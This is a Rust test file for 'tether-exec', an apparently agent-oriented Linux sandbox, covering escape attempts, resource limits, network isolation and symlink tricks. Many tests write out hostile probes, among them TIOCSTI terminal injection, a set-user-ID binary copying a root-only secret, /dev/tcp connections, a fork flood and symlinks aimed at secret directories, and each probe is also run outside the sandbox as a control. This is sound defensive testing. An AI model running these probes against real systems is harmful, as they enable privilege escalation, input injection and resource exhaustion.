/// own (the terminal is not its controlling one) and seccomp. Judged from
/// the host: nothing waits in the terminal after the sandboxed attempt; the
/// control, outside, leaves `INJECTED` there.
#[test]
fn nothing_is_typed_into_the_callers_terminal() {
    let w = World::new();
    w.write("harness_pty.py", TTY_HARNESS);
    w.write(
        "inject.py",
        "import fcntl, termios\nfor c in b'INJECTED\\n':\n    fcntl.ioctl(0, termios.TIOCSTI, bytes([c]))\nprint('pushed')\n",
    );
    let host = |argv: &[&str]| {
        let o = Command::new("python3")
            .arg(w.ws.join("harness_pty.py"))
            .args(argv)
            .current_dir(&w.ws)
            .output()
            .unwrap();
        (stdout(&o), text(&o))
    };
    let state = w.state.display().to_string();
    let tx = bin().display().to_string();
    let (waiting, all) = host(&[&tx, "--state-dir", &state, "run", "--", "python3", "inject.py"]);
    assert_eq!(waiting, "b''\n", "the sandboxed command typed into the terminal: {all}");
    assert!(
        !all.contains("pushed") && all.contains("Operation not permitted"),
        "the attempt ran and was refused: {all}"
    );
    // Control (where the kernel lets anyone use TIOCSTI on their own
    // terminal: `dev.tty.legacy_tiocsti`, or as root).
    let legacy = std::fs::read_to_string("/proc/sys/dev/tty/legacy_tiocsti").map_or(true, |v| v.trim() != "0");
    if legacy || is_root() {
        let (waiting, all) = host(&["python3", "inject.py"]);
        assert_eq!(waiting, "b'INJECTED\\n'\n", "control: {all}");
    }
}

#[test]
fn nested_user_namespaces_are_refused() {
    let w = World::new();
    let o = w.run("unshare -U true && echo NESTED");
    assert!(!stdout(&o).contains("NESTED"), "{}", text(&o));
    let c = w.control("unshare -U true && echo NESTED");
    assert!(stdout(&c).contains("NESTED"), "control: {}", text(&c));
}

#[test]
fn no_new_privs_and_no_capabilities() {
    let w = World::new();
    let o = w.run("grep -E '^(NoNewPrivs|CapInh|CapPrm|CapEff|CapBnd|CapAmb|Seccomp):' /proc/self/status; id -u");
    let out = stdout(&o);
    assert!(out.contains("NoNewPrivs:\t1"), "{out}");
    for cap in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"] {
        assert!(out.contains(&format!("{cap}:\t0000000000000000")), "{cap}: {out}");
    }
    assert!(out.contains("Seccomp:\t2"), "{out}");
    assert!(!out.lines().any(|l| l.trim() == "0"), "runs as uid 0 inside: {out}");
}

/// A set-user-ID program runs with its owner's rights: a root-owned one in
/// the workspace (root put it there; the agent only runs it) would read what
/// only root may. The workspace is a person's (uid 65534), so the sandbox
/// acts as that person; the secret beside it is root's alone. Judged from
/// the host: what the program copied holds nothing. Control: the same
/// person runs it outside and gets the secret. Root alone can make such a
/// program, so only root runs this.
#[test]
fn set_user_id_programs_give_no_rights() {
    use std::os::unix::fs::PermissionsExt;
    if !is_root() {
        return;
    }
    let w = World::new();
    let secret = w.write("secret", "root-only-sekrit\n");
    std::fs::set_permissions(&secret, std::fs::Permissions::from_mode(0o600)).unwrap();
    let suid = w.ws.join("suidcat");
    std::fs::copy("/usr/bin/cat", &suid).unwrap();
    std::fs::set_permissions(&suid, std::fs::Permissions::from_mode(0o4755)).unwrap();
    for d in [w.ws.parent().unwrap(), w.ws.as_path()] {
        std::os::unix::fs::chown(d, Some(65534), Some(65534)).unwrap();
    }
    let steal = "./suidcat secret > stolen; echo ran";
    let o = w.run(steal);
    assert_eq!(stdout(&o), "ran\n", "{}", text(&o));
    let stolen = std::fs::read_to_string(w.ws.join("stolen")).expect("the command wrote its copy");
    assert!(
        !stolen.contains("sekrit"),
        "the set-user-ID program read it: {}",
        text(&o)
    );
    std::fs::remove_file(w.ws.join("stolen")).unwrap();
    let c = Command::new("setpriv")
        .args(["--reuid=65534", "--regid=65534", "--clear-groups", "bash", "-c", steal])
        .current_dir(&w.ws)
        .output()
        .unwrap();
    let stolen = std::fs::read_to_string(w.ws.join("stolen")).unwrap_or_default();
    assert!(stolen.contains("sekrit"), "control: {}", text(&c));
}

#[test]
fn inherited_file_descriptors_are_closed() {
    let w = World::new();
    let secret = w.outside.join("fd-secret");
    std::fs::write(&secret, "sekrit-fd").unwrap();
    let bin = bin();
    let script = format!(
        "exec 7<{}; {} --state-dir {} run -c 'cat <&7; cat /proc/self/fd/7' 2>&1",
        secret.display(),
        bin.display(),
        w.state.display()
    );
    let o = Command::new("bash")
        .arg("-c")
        .arg(&script)
        .current_dir(&w.ws)
        .output()
        .unwrap();
    assert!(!text(&o).contains("sekrit-fd"), "{}", text(&o));
    let c = w.control(&format!("exec 7<{}; bash -c 'cat <&7'", secret.display()));
    assert!(text(&c).contains("sekrit-fd"), "control");
}

#[test]
fn daemons_do_not_outlive_the_command() {
    let w = World::new();
    let script = "setsid sh -c '(sleep 2; echo alive > daemon-marker) &' & sleep 0.2; echo started";
    let o = w.run(script);
    std::thread::sleep(Duration::from_secs(3));
    assert!(!exists(&w.ws.join("daemon-marker")), "daemon survived: {}", text(&o));
    w.control(script);
    std::thread::sleep(Duration::from_secs(3));
    assert!(exists(&w.ws.join("daemon-marker")), "control");
}

#[test]
fn nothing_of_the_sandbox_runs_once_the_launcher_returns() {
    // tether-exec returns as soon as init has killed and reaped everything
    // the command left behind, without waiting for the kernel to dismantle
    // the namespaces: by then no process of the sandbox may write anything.
    let w = World::new();
    let script = "timeout 3 sh -c 'while :; do echo x >> spin.txt; done' >/dev/null 2>&1 & sleep 0.3; echo started";
    let size = |w: &World| std::fs::metadata(w.ws.join("spin.txt")).map_or(0, |m| m.len());
    let o = w.run(script);
    assert!(o.status.success(), "{}", text(&o));
    let first = size(&w);
    assert!(first > 0, "the spinner ran inside: {}", text(&o));
    std::thread::sleep(Duration::from_millis(300));
    assert_eq!(
        size(&w),
        first,
        "a process of the sandbox wrote after tether-exec returned"
    );
    std::fs::remove_file(w.ws.join("spin.txt")).unwrap();
    w.control(script);
    let first = size(&w);
    std::thread::sleep(Duration::from_millis(300));
    assert!(
        size(&w) > first,
        "control: without the sandbox the spinner keeps writing"
    );
}

#[test]
fn killing_the_launcher_kills_the_sandbox() {
    let w = World::new();
    let tag = format!("tether-kill-{}", rand_tag().replace('-', ""));
    let mut child = Command::new(bin())
        .arg("--state-dir")
        .arg(&w.state)
        .args(["run", "-c", &format!("sleep 300 # {tag}\nsleep 300")])
        .current_dir(&w.ws)
        .stdin(Stdio::null())
        .spawn()
        .unwrap();
    std::thread::sleep(Duration::from_millis(500));
    let found = || {
        std::fs::read_dir("/proc").unwrap().flatten().any(|e| {
            std::fs::read(e.path().join("cmdline"))
                .map(|c| String::from_utf8_lossy(&c).contains(&tag))
                .unwrap_or(false)
        })
    };
    assert!(found(), "the sandboxed command did not start");
    child.kill().unwrap(); // SIGKILL
    let _ = child.wait();
    std::thread::sleep(Duration::from_millis(300));
    assert!(!found(), "a sandboxed process outlived the launcher");
}

#[test]
fn never_ending_commands_time_out_and_die() {
    // Each sleep is named by a duration no other process uses, so the host
    // can look for survivors among all its processes. Two try to escape the
    // kill: one in a session of its own, one ignoring SIGHUP.
    let w = World::new();
    let nanos = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .subsec_nanos();
    let tag = format!("1000.{}{nanos}", std::process::id());
    let survivors = || -> Vec<i32> {
        let want = format!("sleep\0{tag}\0");
        std::fs::read_dir("/proc")
            .unwrap()
            .filter_map(|e| e.ok()?.file_name().to_str()?.parse::<i32>().ok())
            .filter(|pid| std::fs::read(format!("/proc/{pid}/cmdline")).is_ok_and(|c| c == want.as_bytes()))
            .collect()
    };
    let script = format!("setsid sleep {tag} & nohup sleep {tag} >/dev/null 2>&1 & sleep {tag}; echo never");
    let start = Instant::now();
    let o = w.run_policy("timeout_seconds = 1", &script);
    assert_eq!(o.status.code(), Some(124), "{}", text(&o));
    assert!(start.elapsed() < Duration::from_secs(10));
    assert!(!stdout(&o).contains("never"));
    let gone = eventually(|| survivors().is_empty());
    let left = survivors();
    for pid in &left {
        let _ = Command::new("kill").args(["-9", &pid.to_string()]).status();
    }
    assert!(gone, "processes outlived the timeout: {left:?}");
    // Control: a timeout that kills only the process group it started
    // (coreutils') leaves the one in a session of its own running.
    // (Its output is not collected: the escaped ones would hold the pipes.)
    let c = Command::new("timeout")
        .args(["-s", "KILL", "1", "bash", "-c", &script])
        .current_dir(&w.ws)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .unwrap();
    let left = survivors();
    for pid in &left {
        let _ = Command::new("kill").args(["-9", &pid.to_string()]).status();
    }
    assert!(!left.is_empty(), "control: {c}");
}

#[test]
fn fork_floods_hit_the_process_limit() {
    let w = World::new();
    let start = Instant::now();
    let o = w.run_policy("timeout_seconds = 20\n[limits]\nprocesses = 64", &format!("{PY} -c \"\nimport os\nn=0\ntry:\n  while True:\n    if os.fork()==0:\n      import time; time.sleep(30)\n    n+=1\nexcept OSError as e:\n  print('limited after', n, e.errno)\n\""));
    assert!(stdout(&o).contains("limited after"), "{}", text(&o));
    assert!(
        start.elapsed() < Duration::from_secs(20),
        "the flood ran to the timeout"
    );
}

#[test]
fn memory_floods_hit_the_memory_limit() {
    let w = World::new();
    let script = format!("{PY} -c \"b = bytearray(1024*1024*1024); print('allocated')\"");
    let o = w.run_policy("[limits]\nmemory_mb = 256", &script);
    assert!(!stdout(&o).contains("allocated"), "{}", text(&o));
    let c = w.control(&script);
    assert!(stdout(&c).contains("allocated"), "control");
}

#[test]
fn every_limit_has_a_default_when_the_policy_sets_none() {
    // bash's `ulimit`: CPU seconds (an hour per CPU this machine lets the
    // launcher use), file size in KiB, processes, open files, address space
    // in KiB.
    let w = World::new();
    // `nproc` counts the affinity mask, as the launcher does, unless told
    // otherwise by these.
    let nproc = Command::new("nproc")
        .env_remove("OMP_NUM_THREADS")
        .env_remove("OMP_THREAD_LIMIT")
        .output()
        .unwrap();
    let cpus: u64 = String::from_utf8(nproc.stdout).unwrap().trim().parse().unwrap();
    let o = w.run("ulimit -t -f -u -n -v");
    assert!(o.status.success(), "{}", text(&o));
    let values: Vec<String> = stdout(&o)
        .lines()
        .map(|l| l.rsplit(' ').next().unwrap_or("").to_string())
        .collect();
    let kib = |mb: u64| (mb * 1024).to_string();
    assert_eq!(
        values,
        [
            (3600 * cpus).to_string(),
            kib(32 * 1024),
            "4096".into(),
            "4096".into(),
            kib(16 * 1024)
        ],
        "{}",
        text(&o)
    );
}

#[test]
fn cpu_hogs_hit_the_cpu_limit() {
    // Burns 3 s of CPU, then leaves a mark. With `cpu_seconds = 1` the
    // kernel stops it before the mark: SIGXCPU, which the shell names.
    let w = World::new();
    let script = format!(
        "{PY} -c \"import time\nt = time.process_time()\nwhile time.process_time() - t < 3: pass\nopen('finished', 'w')\""
    );
    let o = w.run_policy("timeout_seconds = 60\n[limits]\ncpu_seconds = 1", &script);
    assert_eq!(o.status.code(), Some(128 + libc::SIGXCPU), "{}", text(&o));
    assert!(!exists(&w.ws.join("finished")), "{}", text(&o));
    let c = w.control(&script);
    assert!(c.status.success() && exists(&w.ws.join("finished")), "control");
}

#[test]
fn files_past_the_size_limit_are_not_written() {
    // 3 MB into one file; with `file_size_mb = 1` the write stops at 1 MiB
    // (EFBIG: Python ignores SIGXFSZ), as the host sees the file.
    let w = World::new();
    let script = format!("{PY} -c \"open('big.bin', 'wb').write(bytes(3000000))\"");
    let o = w.run_policy("[limits]\nfile_size_mb = 1", &script);
    assert!(!o.status.success(), "{}", text(&o));
    assert!(text(&o).contains("File too large"), "{}", text(&o));
    let len = std::fs::metadata(w.ws.join("big.bin")).map_or(0, |m| m.len());
    assert!(len <= 1024 * 1024, "{len} bytes written: {}", text(&o));
    std::fs::remove_file(w.ws.join("big.bin")).ok();
    let c = w.control(&script);
    assert!(c.status.success(), "control");
    assert_eq!(
        std::fs::metadata(w.ws.join("big.bin")).unwrap().len(),
        3_000_000,
        "control"
    );
}

// ------------------------------------------------------------------- network

#[test]
fn tcp_to_the_hosts_loopback_is_unreachable() {
    let w = World::new();
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    l.set_nonblocking(true).unwrap();
    let port = l.local_addr().unwrap().port();
    let script = format!("echo hi > /dev/tcp/127.0.0.1/{port} && echo CONNECTED");
    let o = w.run(&script);
    assert!(l.accept().is_err(), "the host listener got a connection: {}", text(&o));
    assert!(!stdout(&o).contains("CONNECTED"));
    let c = w.control(&script);
    std::thread::sleep(Duration::from_millis(100));
    assert!(l.accept().is_ok(), "control: {}", text(&c));
}

#[test]
fn udp_to_the_hosts_loopback_is_unreachable() {
    let w = World::new();
    let s = UdpSocket::bind("127.0.0.1:0").unwrap();
    s.set_read_timeout(Some(Duration::from_millis(500))).unwrap();
    let port = s.local_addr().unwrap().port();
    let script = format!("echo hi > /dev/udp/127.0.0.1/{port}");
    w.run(&script);
    let mut buf = [0u8; 16];
    assert!(s.recv(&mut buf).is_err(), "the host UDP socket received a datagram");
    w.control(&script);
    assert!(s.recv(&mut buf).is_ok(), "control");
}

fn unix_probe(addr: &str) -> String {
    format!("{PY} -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect({addr}); s.send(b'hi'); print('CONNECTED')\"")
}

#[test]
fn abstract_unix_sockets_of_the_host_are_unreachable() {
    use std::os::linux::net::SocketAddrExt;
    let w = World::new();
    let name = format!("tether-test-{}", rand_tag());
    let addr = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
    let l = std::os::unix::net::UnixListener::bind_addr(&addr).unwrap();
    l.set_nonblocking(true).unwrap();
    let script = unix_probe(&format!("'\\\\0{name}'"));
    for policy in ["network = false", "network = true"] {
        let o = w.run_policy(policy, &script);
        assert!(
            l.accept().is_err(),
            "{policy}: the host's abstract socket got a connection: {}",
            text(&o)
        );
    }
    let c = w.control(&script);
    std::thread::sleep(Duration::from_millis(100));
    assert!(l.accept().is_ok(), "control: {}", text(&c));
}

#[test]
fn pathname_unix_sockets_of_host_daemons_are_unreachable() {
    let w = World::new();
    let path = w.outside.join("daemon.sock");
    let l = std::os::unix::net::UnixListener::bind(&path).unwrap();
    l.set_nonblocking(true).unwrap();
    let script = unix_probe(&format!("'{}'", path.display()));
    let o = w.run(&script);
    assert!(l.accept().is_err(), "{}", text(&o));
    w.control(&script);
    std::thread::sleep(Duration::from_millis(100));
    assert!(l.accept().is_ok(), "control");
}

#[test]
fn netlink_sees_only_the_sandbox_loopback() {
    // The interfaces a netlink dump (RTM_GETLINK, which glibc's
    // `if_nameindex` sends) and procfs show: inside, the sandbox's own
    // loopback only; on the host, the host's interfaces.
    let w = World::new();
    let probe = "python3 -c 'import socket; print(sorted(n for _, n in socket.if_nameindex()))'; \
                 tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '";
    let o = w.run(probe);
    assert_eq!(stdout(&o), "['lo']\nlo\n", "only loopback is visible: {}", text(&o));
    let c = stdout(&w.control(probe));
    let host: Vec<&str> = c.lines().collect();
    assert!(
        host.first().is_some_and(|l| l.contains("'lo'") && *l != "['lo']") && host[1..].iter().any(|l| *l != "lo"),
        "control: the host's netlink and procfs show more than loopback: {c}"
    );
}

#[test]
fn no_network_namespace_means_nothing_runs() {
    // Inside a user namespace whose limit on network namespaces is 0, the
    // sandbox cannot get one: the run must stop before the command, naming the
    // step, rather than fall back to the host's network.
    let w = World::new();
    let run = |limit: &str| {
        let script = format!(
            "{limit} exec {} --state-dir {} run -- touch {}/ran.txt",
            bin().display(),
            w.state.display(),
            w.ws.display()
        );
        Command::new("unshare")
            .args(["--user", "--map-root-user", "sh", "-c", &script])
            .current_dir(&w.ws)
            .stdin(Stdio::null())
            .output()
            .unwrap()
    };
    let o = run("echo 0 > /proc/sys/user/max_net_namespaces &&");
    assert_eq!(o.status.code(), Some(125), "{}", text(&o));
    assert!(text(&o).contains("create the network namespace"), "{}", text(&o));
    assert!(
        !exists(&w.ws.join("ran.txt")),
        "the command ran without a network namespace"
    );
    // Control: the same wrapper without the limit runs the command.
    let c = run("");
    assert!(c.status.success(), "control: {}", text(&c));
    assert!(exists(&w.ws.join("ran.txt")), "control");
}

// ------------------------------------------------------- everyday programs work

#[test]
fn everyday_programs_keep_working() {
    let w = World::new();
    w.write(
        "src/main.c",
        "#include <stdio.h>\nint main(void){puts(\"compiled\");return 0;}\n",
    );
    let script = format!(
        r#"set -e
printf 'b\na\nb\n' | sort | uniq -c | sort -rn | head -1
git init -q repo && cd repo && git -c user.email=a@b -c user.name=t commit -q --allow-empty -m init && git log --oneline | wc -l && cd ..
{PY} -c "import threading, asyncio
t = threading.Thread(target=lambda: None); t.start(); t.join()
async def main(): await asyncio.sleep(0.01); return 'asyncio ok'
print(asyncio.run(main()))"
cc -o /tmp/hello src/main.c && /tmp/hello
{PY} -m http.server 8765 --bind 127.0.0.1 >/dev/null 2>&1 &
for i in $(seq 50); do {PY} -c "import urllib.request; print(urllib.request.urlopen('http://127.0.0.1:8765/').status)" 2>/dev/null && break; sleep 0.1; done
{PY} -c "import socket; a, b = socket.socketpair(); a.send(b'x'); print('socketpair', b.recv(1))"
"#
    );
    let o = w.run(&script);
    let out = stdout(&o);
    assert!(o.status.success(), "{}", text(&o));
    for want in ["2 b", "1", "asyncio ok", "compiled", "200", "socketpair b'x'"] {
        assert!(out.contains(want), "missing {want:?} in:\n{}", text(&o));
    }
}

/// The sandbox builds itself on CPUs of its own choosing (init apart from
/// the launcher); the command and the processes it makes may use every CPU
/// the launcher may, as outside. Judged by the kernel's own account of each.
#[test]
fn the_command_may_use_every_cpu_the_launcher_may() {
    let w = World::new();
    let allowed = |status: &str| {
        status
            .lines()
            .find_map(|l| l.strip_prefix("Cpus_allowed_list:"))
            .map(|v| v.trim().to_string())
            .unwrap_or_else(|| panic!("no Cpus_allowed_list in {status}"))
    };
    let host = allowed(&std::fs::read_to_string("/proc/self/status").unwrap());
    // The command, a process it forks, and init (pid 1) once the command
    // runs; several runs, since init and the command each place the command
    // (the command's own word must come last, whichever runs first).
    for _ in 0..8 {
        let o = w.run("cat /proc/self/status; sh -c 'cat /proc/self/status'; cat /proc/1/status");
        assert!(o.status.success(), "{}", text(&o));
        let inside: Vec<String> = stdout(&o)
            .lines()
            .filter_map(|l| l.strip_prefix("Cpus_allowed_list:"))
            .map(|v| v.trim().to_string())
            .collect();
        assert_eq!(inside, vec![host.clone(), host.clone(), host.clone()], "{}", text(&o));
    }
}

#[test]
fn exit_codes_follow_the_contract() {
    let w = World::new();
    assert_eq!(w.run("exit 3").status.code(), Some(3));
    assert_eq!(w.run("kill -TERM $$").status.code(), Some(128 + 15));
    let o = Command::new(bin())
        .arg("--state-dir")
        .arg(&w.state)
        .args(["run", "--", "no-such-program-xyz"])
        .current_dir(&w.ws)
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(127), "{}", text(&o));
    w.write("notexec.sh", "echo hi");
    let o = Command::new(bin())
        .arg("--state-dir")
        .arg(&w.state)
        .args(["run", "--", "./notexec.sh"])
        .current_dir(&w.ws)
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(126), "{}", text(&o));
}

#[test]
fn a_closed_pipe_ends_its_writer_as_outside() {
    // The launcher ignores SIGPIPE (as every Rust program does); the command
    // must not inherit that, or `yes | head` would spin on EPIPE.
    let w = World::new();
    let script = "yes | head -1 >/dev/null; echo ${PIPESTATUS[0]}";
    let c = w.control(script);
    assert_eq!(String::from_utf8_lossy(&c.stdout).trim(), "141", "control");
    let o = w.run(script);
    assert_eq!(String::from_utf8_lossy(&o.stdout).trim(), "141", "{}", text(&o));
}

#[test]
fn stdin_passes_through_and_outputs_stay_separate() {
    let w = World::new();
    let mut c = Command::new(bin())
        .arg("--state-dir")
        .arg(&w.state)
        .args(["run", "-c", "tr a-z A-Z; echo err >&2"])
        .current_dir(&w.ws)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    use std::io::Write;
    c.stdin.take().unwrap().write_all(b"hello").unwrap();
    let mut out = String::new();
    c.stdout.take().unwrap().read_to_string(&mut out).unwrap();
    let o = c.wait_with_output().unwrap();
    assert_eq!(out, "HELLO");
    assert_eq!(String::from_utf8_lossy(&o.stderr), "err\n");
}

#[test]
fn eight_runs_at_once_all_succeed() {
    let w = World::new();
    let handles: Vec<_> = (0..8)
        .map(|i| {
            Command::new(bin())
                .arg("--state-dir")
                .arg(&w.state)
                .args(["run", "-c", &format!("echo {i} > out-{i}.txt")])
                .current_dir(&w.ws)
                .spawn()
                .unwrap()
        })
        .collect();
    for mut h in handles {
        assert!(h.wait().unwrap().success());
    }
    for i in 0..8 {
        assert_eq!(
            std::fs::read_to_string(w.ws.join(format!("out-{i}.txt"))).unwrap(),
            format!("{i}\n")
        );
    }
}

#[test]
fn refused_commands_never_start() {
    let w = World::new();
    let o = w.run_policy(
        "deny = [\"touch\"]\ndefault = \"allow\"",
        "echo start > started.txt; touch x",
    );
    assert_eq!(o.status.code(), Some(77));
    assert!(
        String::from_utf8_lossy(&o.stderr).starts_with("Sandbox violation:"),
        "{}",
        text(&o)
    );
    assert!(!exists(&w.ws.join("started.txt")), "part of a refused script ran");
}

#[test]
fn a_read_only_path_holding_the_state_directory_does_not_show_it() {
    // The policy shows a whole directory read-only; the state directory (held
    // actions, the audit log) happens to be inside it.
    let base = host_dir();
    let (ws, state) = (base.path().join("ws"), base.path().join("state"));
    std::fs::create_dir_all(&ws).unwrap();
    let policy = base.path().join("policy.toml");
    std::fs::write(&policy, format!("read_only_paths = [{:?}]\n", base.path())).unwrap();
    let log = state.join("audit/log.jsonl");
    let script = format!("cat {}", log.display());
    let o = Command::new(bin())
        .arg("--state-dir")
        .arg(&state)
        .args(["run", "--policy", policy.to_str().unwrap(), "-c", &script])
        .current_dir(&ws)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert!(!o.status.success(), "the audit log was readable inside: {}", text(&o));
    assert!(!String::from_utf8_lossy(&o.stdout).contains("\"seq\""), "{}", text(&o));
    // Control: the log is there and readable outside.
    let c = Command::new("bash").arg("-c").arg(&script).output().unwrap();
    assert!(String::from_utf8_lossy(&c.stdout).contains("\"seq\""), "control");
}

#[test]
fn links_on_the_way_to_a_read_only_path_lead_inside_where_they_lead_on_the_host() {
    // A directory shown whole (as `/opt` is) holds the host's link `jdk` ->
    // `jdks/current` -> `21`. Naming `opt/jdk` shows `jdks/21`; the host's
    // link in `opt` leads through `jdks/current`, which must be there too.
    let base = host_dir();
    let b = std::fs::canonicalize(base.path()).unwrap();
    let (opt, jdks) = (b.join("opt"), b.join("jdks"));
    std::fs::create_dir_all(jdks.join("21/bin")).unwrap();
    std::fs::create_dir_all(&opt).unwrap();
    std::fs::write(jdks.join("21/bin/java"), "JAVA 21\n").unwrap();
    std::os::unix::fs::symlink("21", jdks.join("current")).unwrap();
    std::os::unix::fs::symlink(jdks.join("current"), opt.join("jdk")).unwrap();
    let w = World::new();
    let policy = format!("read_only_paths = [{:?}, {:?}]\n", opt, opt.join("jdk"));
    let probe = format!(
        "cat {o}/jdk/bin/java && readlink {j}/current && cat {j}/current/bin/java",
        o = opt.display(),
        j = jdks.display()
    );
    let o = w.run_policy(&policy, &probe);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert_eq!(stdout(&o), "JAVA 21\n21\nJAVA 21\n", "{}", text(&o));
    // And nothing through them is written.
    let o = w.run_policy(&policy, &format!("echo x | tee {}/jdk/bin/new", opt.display()));
    assert_ne!(o.status.code(), Some(0), "{}", text(&o));
    assert!(!exists(&jdks.join("21/bin/new")));
}

#[test]
fn a_path_directory_named_through_a_version_link_finds_its_tools() {
    // sdkman puts `candidates/java/current/bin` on PATH, `current` a link
    // to the version in use: the directory shown is the version's, and the
    // PATH entry leads there through the link.
    let base = host_dir();
    let b = std::fs::canonicalize(base.path()).unwrap();
    let java = b.join("candidates/java");
    write_program(&java.join("21/bin/javax"), "#!/bin/sh\necho javax 21\n");
    std::os::unix::fs::symlink("21", java.join("current")).unwrap();
    let w = World::new();
    let o = run_with_on_path(&w, &java.join("current/bin"), "javax");
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert_eq!(stdout(&o), "javax 21\n", "{}", text(&o));
}

#[test]
fn a_read_only_path_named_through_an_absolute_link_is_readable_and_stays_unwritten() {
    // Toolchains are often reached through a link (`/opt/sdk` -> its
    // versioned directory). An absolute link's target is resolved in the
    // sandbox's own root, where the target must be there too.
    let base = host_dir();
    let (ws, state, real, link) = (
        base.path().join("ws"),
        base.path().join("state"),
        base.path().join("sdk-1.2"),
        base.path().join("sdk"),
    );
    std::fs::create_dir_all(&ws).unwrap();
    std::fs::create_dir_all(&real).unwrap();
    std::fs::write(real.join("version.txt"), "1.2\n").unwrap();
    std::os::unix::fs::symlink(&real, &link).unwrap();
    let policy = base.path().join("policy.toml");
    std::fs::write(&policy, format!("read_only_paths = [{link:?}]\n")).unwrap();
    let run = |script: &str| {
        Command::new(bin())
            .arg("--state-dir")
            .arg(&state)
            .args(["run", "--policy", policy.to_str().unwrap(), "-c", script])
            .current_dir(&ws)
            .stdin(Stdio::null())
            .output()
            .unwrap()
    };
    let o = run(&format!("cat {}/version.txt", link.display()));
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert_eq!(stdout(&o), "1.2\n");
    // Through the link and at the real path, nothing is written.
    for target in [link.join("version.txt"), real.join("version.txt"), link.join("new.txt")] {
        let o = run(&format!("echo changed | tee {}", target.display()));
        assert_ne!(o.status.code(), Some(0), "{}: {}", target.display(), text(&o));
        // The mount's refusal (EROFS), not only Landlock's (EACCES).
        assert!(text(&o).contains("Read-only file system"), "{}", text(&o));
    }
    assert_eq!(std::fs::read_to_string(real.join("version.txt")).unwrap(), "1.2\n");
    assert!(
        !exists(&real.join("new.txt")),
        "a file was made through the read-only path"
    );
    // Control: outside, the same write through the link lands.
    let c = Command::new("bash")
        .arg("-c")
        .arg(format!("echo changed | tee {}", link.join("new.txt").display()))
        .output()
        .unwrap();
    assert!(c.status.success() && exists(&real.join("new.txt")), "control");
}

#[test]
fn a_read_only_file_in_a_directory_shown_already_is_readable_and_stays_unwritten() {
    // A file under /etc, which is bound read-only already: its mount point
    // is the file there (it used to be opened for writing, and failed).
    let w = World::new();
    let before = std::fs::read("/etc/hostname").unwrap();
    let o = w.run_policy(
        "read_only_paths = [\"/etc/hostname\"]",
        "cat /etc/hostname; echo x | tee /etc/hostname",
    );
    assert!(
        stdout(&o).starts_with(&String::from_utf8_lossy(&before).to_string()),
        "{}",
        text(&o)
    );
    assert!(text(&o).contains("Read-only file system"), "{}", text(&o));
    assert_eq!(std::fs::read("/etc/hostname").unwrap(), before);
}

#[test]
fn a_read_only_path_the_command_pointed_elsewhere_shows_nothing() {
    // The policy shows the workspace's `vendor/sdk` read-only. A run makes it
    // a link to a host directory; the next run must not bind what the link
    // names (a host directory of the attacker's choosing). Outside /tmp: the
    // sandbox has its own, so a read-only path there is refused anyway.
    let (_secret, secret_dir) = host_secret_dir();
    for relative in [false, true] {
        let base = host_dir();
        let base = std::fs::canonicalize(base.keep()).unwrap();
        let _cleanup = RemovedOnDrop(base.clone());
        let (ws, state) = (base.join("ws"), base.join("state"));
        std::fs::create_dir_all(&ws).unwrap();
        let policy = base.join("policy.toml");
        std::fs::write(&policy, format!("read_only_paths = [{:?}]\n", ws.join("vendor/sdk"))).unwrap();
        let run = |policy: Option<&std::path::Path>, script: &str| {
            let mut c = Command::new(bin());
            c.arg("--state-dir").arg(&state).arg("run");
            if let Some(p) = policy {
                c.arg("--policy").arg(p);
            }
            c.args(["-c", script])
                .current_dir(&ws)
                .stdin(Stdio::null())
                .output()
                .unwrap()
        };
        let target = if relative {
            let depth = ws.join("vendor").components().count() - 1;
            format!(
                "{}{}",
                "../".repeat(depth),
                secret_dir.strip_prefix("/").unwrap().display()
            )
        } else {
            secret_dir.display().to_string()
        };
        let o = run(None, &format!("mkdir -p vendor && ln -s {target} vendor/sdk"));
        assert!(o.status.success(), "{}", text(&o));
        assert!(std::fs::symlink_metadata(ws.join("vendor/sdk")).is_ok_and(|m| m.is_symlink()));
        let o = run(Some(&policy), "cat vendor/sdk/secret.txt");
        assert!(!stdout(&o).contains("TOPSECRET"), "relative {relative}: {}", text(&o));
        assert_eq!(o.status.code(), Some(125), "relative {relative}: {}", text(&o));
        assert!(text(&o).contains("a link in the workspace"), "{}", text(&o));
        // Control: on the host the link leads to the secret.
        let c = Command::new("cat")
            .arg(ws.join("vendor/sdk/secret.txt"))
            .output()
            .unwrap();
        assert!(stdout(&c).contains("TOPSECRET"), "control, relative {relative}");
    }
}

#[test]
fn a_tool_directory_on_path_the_command_pointed_elsewhere_shows_nothing() {
    // An activated virtualenv puts the workspace's `.venv/bin` on PATH. A run
    // makes it a link to a directory of the person's; the next run must not
    // show that directory as a tool directory.
    let (_secret, secret_dir) = host_secret_dir();
    let w = World::new();
    let o = w.run(&format!("mkdir -p .venv && ln -s {} .venv/bin", secret_dir.display()));
    assert!(o.status.success(), "{}", text(&o));
    let path = format!("{}:/usr/bin:/bin", w.ws.join(".venv/bin").display());
    let read = format!("cat {}/secret.txt", secret_dir.display());
    let o = w.command(&["run", "-c", &read]).env("PATH", &path).output().unwrap();
    assert!(!stdout(&o).contains("TOPSECRET"), "{}", text(&o));
    // Control: a PATH entry of the same directory outside the workspace is
    // shown (so the probe reads what a tool directory would show).
    let direct = format!("{}:/usr/bin:/bin", secret_dir.display());
    let c = w.command(&["run", "-c", &read]).env("PATH", &direct).output().unwrap();
    assert!(stdout(&c).contains("TOPSECRET"), "control: {}", text(&c));
}

/// `tether-exec run -c script` in `w`'s workspace with `dir` first on PATH
/// (then `/usr/bin:/bin`), as an activated virtualenv or a version manager
/// puts it there.
fn run_with_on_path(w: &World, dir: &Path, script: &str) -> std::process::Output {
    let path = format!("{}:/usr/bin:/bin", dir.display());
